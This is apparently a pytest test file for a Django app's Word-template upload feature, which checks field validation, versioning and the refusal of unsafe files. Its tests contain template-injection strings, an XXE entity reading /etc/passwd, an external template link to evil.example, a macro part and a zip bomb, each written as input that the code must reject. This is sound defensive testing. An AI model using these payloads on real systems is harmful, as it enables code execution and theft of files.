"""The office's Word templates: only the fields there are, nothing that runs, every version kept."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document as Word
from docx.shared import Mm

from quxiang.web.audit.models import Entry
from quxiang.web.bulletins.fields import FIELDS, KIND, context_of
from quxiang.web.bulletins.paper import data_of
from quxiang.web.bulletins.shipped import shipped
from quxiang.web.common.refusals import InvalidError
from quxiang.web.wordfiles.filling import checked, filled
from quxiang.web.wordfiles.kinds import WordKind, all_kinds
from quxiang.web.wordfiles.models import WordTemplate
from quxiang.web.wordfiles.packing import looked_through
from quxiang.web.wordfiles.selectors import content_of, latest, word_of
from quxiang.web.wordfiles.services import keeping
from web.bulletin_rows import a_snapshot, kept_bulletin
from web.bulletining import see, send
from web.cast import Cast
from web.office import pages_in_office

pytestmark = [pytest.mark.django_db, pytest.mark.database]


def template(*lines: str, head: str = "") -> bytes:
    """Return a Word file with these lines in its body."""
    made, buffer = Word(), io.BytesIO()
    for line in lines:
        made.add_paragraph(line)
    if head:
        made.sections[0].header.paragraphs[0].text = head
    made.save(buffer)
    return buffer.getvalue()


def repacked(content: bytes, **parts: bytes) -> bytes:
    """Return a Word file with some parts of it put in or replaced."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w") as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, part in parts.items():
            new.writestr(name, part)
    return buffer.getvalue()


def text_of(content: bytes) -> str:
    return "\n".join(each.text for each in Word(io.BytesIO(content)).paragraphs)


def upload(cast: Cast, content: bytes, note: str = "改了落款", seen: int = 0) -> Any:
    file = SimpleUploadedFile("本校模板.docx", content)
    return send(cast.qian, "/word-templates/bulletin/upload/", file=file, note=note, seen=seen)


def test_the_shipped_template_uses_every_table_and_opens_anywhere(tmp_path: Path) -> None:
    made = Word(io.BytesIO(filled(shipped(), KIND.sample())))
    tables = [each for each in FIELDS if each.columns]
    assert len(made.tables) == len(tables) - 1  # what is due next is a list
    section = made.sections[0]
    wanted = (Mm(210), Mm(297), Mm(37), Mm(35), Mm(28), Mm(26))
    measures = (
        section.page_width, section.page_height, section.top_margin, section.bottom_margin,
        section.left_margin, section.right_margin,
    )  # fmt: skip
    assert all(abs(one - other) < Mm(0.1) for one, other in zip(measures, wanted, strict=True))


@pytest.mark.parametrize("kind", all_kinds(), ids=lambda each: each.code)
def test_the_shipped_template_of_every_kind_passes_and_opens_in_an_office_program(
    kind: WordKind, tmp_path: Path
) -> None:
    """What the product ships is the same bytes every time, and says what is filled in."""
    assert kind.shipped() == kind.shipped.__wrapped__()  # type: ignore[attr-defined]
    assert checked(kind, kind.shipped()) == kind.shipped()
    pages = pages_in_office(filled(kind.shipped(), kind.sample()), tmp_path)
    assert 1 <= len(pages) <= 4
    said = "".join("".join(pages).split())
    assert "{" not in said
    for each in kind.fields:
        if each.name == "title":
            assert "".join((each.example or each.title).split()) in said


def test_a_list_is_gone_through_and_a_text_is_not(cast: Cast) -> None:
    for lines, said in (
        (["{{ colleges }}"], "多行或多项"), (["{% for a in title %}", "{% endfor %}"], "不是逐行"),
        (["{%p for a in trace %}", "{{ a }}", "{%p endfor %}"], "多行或多项"),
        (["{%p for a in next %}", "{{ a.formula }}", "{%p endfor %}"], "a.formula"),
        (["{%p for a in trace if nobody %}", "{%p endfor %}"], "nobody"),
    ):  # fmt: skip
        with pytest.raises(InvalidError, match=said):
            checked(KIND, template(*lines))


def test_one_kind_is_kept_apart_from_another(cast: Cast) -> None:
    assert upload(cast, template("本校：{{ title }}")).status_code == 302
    assert latest(cast.school.pk, "bulletin") is not None
    assert latest(cast.school.pk, "other") is None
    listed = see(cast.qian, "/word-templates/").content.decode()
    assert all(each.title in listed for each in all_kinds())
    assert "第 1 版" in listed
    tried = see(cast.qian, "/word-templates/bulletin/sample/").content
    assert text_of(tried) == "本校：标题"
    assert see(cast.qian, "/word-templates/nothing/").status_code == 404


def test_a_filled_one_is_opened_by_an_office_program_page_by_page(
    cast: Cast, tmp_path: Path
) -> None:
    data = data_of(kept_bulletin(cast, a_snapshot(cast)))
    pages = pages_in_office(word_of(cast.school.pk, "bulletin", context_of(data, "")), tmp_path)
    assert len(pages) == 3
    assert "关于毕业生去向登记的通报" in pages[0]
    assert "50.00%" in pages[0]
    assert "（草稿，未签发）" in pages[0]
    assert pages[2].startswith("附件")
    for number, text in enumerate(pages, 1):
        assert f"—{number}—" in text


@pytest.mark.parametrize(
    ("line", "named"),
    [
        ("{{ titel }}", "titel"), ("{{ graduates }}", "graduates"),
        ("{%p for each in colleges %}{{ each.adviser }}{%p endfor %}", "each.adviser"),
        ("{{ title.upper }}", "title.upper"), ("{{ organ.__class__ }}", "organ.__class__"),
        ("{{ self }}", "self"), ("{{ loop.index }}", "loop"),
    ],
)  # fmt: skip
def test_a_field_there_is_not_is_refused_by_its_name(cast: Cast, line: str, named: str) -> None:
    lines = line.replace("%}{{", "%}\n{{").replace("}}{%", "}}\n{%").split("\n")
    answer = upload(cast, template(*lines))
    assert answer.status_code == 422
    assert named in answer.content.decode()
    assert "没有保存" in answer.content.decode()
    assert not WordTemplate.objects.exists()


def test_a_field_in_a_head_and_in_the_properties_is_looked_at_too(cast: Cast) -> None:
    assert "nobody" in upload(cast, template("正文", head="{{ nobody }}")).content.decode()
    made, buffer = Word(), io.BytesIO()
    made.core_properties.title = "{{ secret }}"
    made.save(buffer)
    assert "secret" in upload(cast, buffer.getvalue()).content.decode()


@pytest.mark.parametrize(
    "line",
    [
        "{{ title() }}", "{{ title|upper }}", "{{ colleges[0] }}", "{{ title ~ organ }}",
        "{{ ''.join(opening) }}", "{% set x = 1 %}", "{% include 'settings.py' %}",
        "{% import 'os' as os %}", "{{ 9999999 * 9999999 }}", "{% macro m() %}{% endmacro %}",
        "{{ range(9) }}", "{% for a in title.__class__.__mro__ %}{% endfor %}", "{{ title",
        "{{ cycler.__init__.__globals__ }}", "{% raw %}{{ x }}", "{{ title is defined }}",
    ],
)  # fmt: skip
def test_what_runs_is_refused_and_reads_nothing(line: str) -> None:
    with pytest.raises(InvalidError) as refused:
        checked(KIND, template(line))
    assert "没有保存" in str(refused.value)


def test_loops_do_not_multiply_without_end() -> None:
    def nested(depth: int) -> bytes:
        opened = [f"{{%p for a{at} in trace %}}" for at in range(depth)]
        return template(*opened, "x", *["{%p endfor %}"] * depth)

    assert checked(KIND, nested(2))
    with pytest.raises(InvalidError, match="套得太深"):
        checked(KIND, nested(3))


def test_a_text_is_never_taken_for_a_template() -> None:
    context = {**KIND.sample(), "title": "{{ organ }}<w:p/>&"}
    made = filled(template("{{ title }}"), context)
    assert text_of(made) == "{{ organ }}<w:p/>&"


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"not a word file", "不是能打开的 Word 文件"), (b"", "还没有选文件"),
        (b"PK\x03\x04broken", "不是能打开的 Word 文件"),
    ],
)  # fmt: skip
def test_a_broken_file_is_refused(cast: Cast, content: bytes, said: str) -> None:
    with pytest.raises(InvalidError, match=said):
        keeping.upload(
            school=cast.school, kind=KIND, content=content, filename="a.docx", note="先试一试",
            after=0, by=cast.qian,
        )  # fmt: skip


def test_what_a_file_would_run_or_fetch_when_it_is_opened_is_refused() -> None:
    good = template("{{ title }}")
    outside = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    entity = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    broken = b"<w:document><w:body>"
    for name, part in (
        ("word/vbaProject.bin", b"macro"), ("word/_rels/settings.xml.rels", outside),
        ("word/comments.xml", entity), ("word/embeddings/a.bin", b"x"),
        ("word/document.xml", broken),
    ):  # fmt: skip
        with pytest.raises(InvalidError):
            checked(KIND, repacked(good, **{name: part}))


def test_a_file_that_unpacks_to_too_much_is_not_unpacked() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as whole:
        whole.writestr("word/document.xml", b"0" * (41 << 20))
    with pytest.raises(InvalidError, match="太大"):
        looked_through(buffer.getvalue())
    with pytest.raises(InvalidError, match="MB"):
        looked_through(b"0" * (6 << 20))


def test_every_version_is_kept_with_who_and_why_and_given_back(cast: Cast) -> None:
    own = template("本校：{{ title }}")
    assert upload(cast, own).status_code == 302
    kept = WordTemplate.objects.get()
    assert (kept.number, kept.by, kept.note) == (1, cast.qian, "改了落款")
    assert see(cast.qian, f"/word-templates/{kept.pk}/file/").content == own
    assert see(cast.zhao, f"/word-templates/{kept.pk}/file/").status_code == 404
    entry = Entry.objects.filter(action="wordtemplate.save").latest("seq")
    assert (entry.reason, entry.after["sha256"]) == ("改了落款", kept.sha256)
    assert upload(cast, own, seen=0).status_code == 409
    assert upload(cast, own, note="").status_code == 422
    bulletin = kept_bulletin(cast, a_snapshot(cast))
    word = see(cast.qian, f"/bulletins/{bulletin.pk}/word/").content
    assert text_of(word) == "本校：关于毕业生去向登记的通报"
    back = {"note": "回到随附的", "seen": 1}
    assert send(cast.qian, "/word-templates/bulletin/restore/", **back).status_code == 302
    again = send(cast.qian, "/word-templates/bulletin/restore/", **{**back, "seen": 2})
    assert again.status_code == 422
    assert content_of(KIND, latest(cast.school.pk, "bulletin")) == shipped()
    assert see(cast.qian, "/word-templates/bulletin/shipped/").content == shipped()
    page = see(cast.qian, "/word-templates/bulletin/").content.decode()
    assert all(f"<code>{each.name}</code>" in page for each in FIELDS)
    assert "改了落款" in page


def test_the_heading_is_kept_in_versions(cast: Cast) -> None:
    typed = {
        "organ": "云梦大学学生工作部", "code": "学", "red": "on", "weekly": "none",
        "fortnightly": "all", "reason": "机构调整", "after": 0,
    }  # fmt: skip
    assert send(cast.qian, "/bulletins/heading/", **typed).status_code == 302
    assert send(cast.qian, "/bulletins/heading/", **typed).status_code == 409
    assert send(cast.qian, "/bulletins/heading/", **{**typed, "after": 1}).status_code == 422
    assert send(cast.qian, "/bulletins/heading/", **{**typed, "organ": ""}).status_code == 422
    assert send(cast.zhao, "/bulletins/heading/", **typed).status_code == 403
    data = data_of(kept_bulletin(cast, a_snapshot(cast)))
    assert (data["organ"], data["code"], data["red"]) == ("云梦大学学生工作部", "学", True)
